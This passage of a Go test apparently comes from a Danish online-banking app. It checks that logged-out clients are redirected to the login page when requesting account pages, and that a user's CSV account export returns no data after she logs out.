	for _, path := range []string{"/netbank/konti", "/netbank/konti/" + metteSalary + "/eksport.csv"} {
		p := anon.get(path)
		if p.StatusCode != http.StatusSeeOther || !strings.HasPrefix(p.Header.Get("Location"), "/login") {
			t.Errorf("%s logged out: %d %q", path, p.StatusCode, p.Header.Get("Location"))
		}
	}
	// Mette's CSV after her logout: nothing.
	mette.post("/logout", url.Values{})
	if p := mette.get("/netbank/konti/" + metteSalary + "/eksport.csv"); p.StatusCode != http.StatusSeeOther || bytes.Contains([]byte(p.Body), []byte("Dato;Tekst")) {
		t.Errorf("CSV after logout: %d", p.StatusCode)
	}
	b.noErrorsLogged()
}
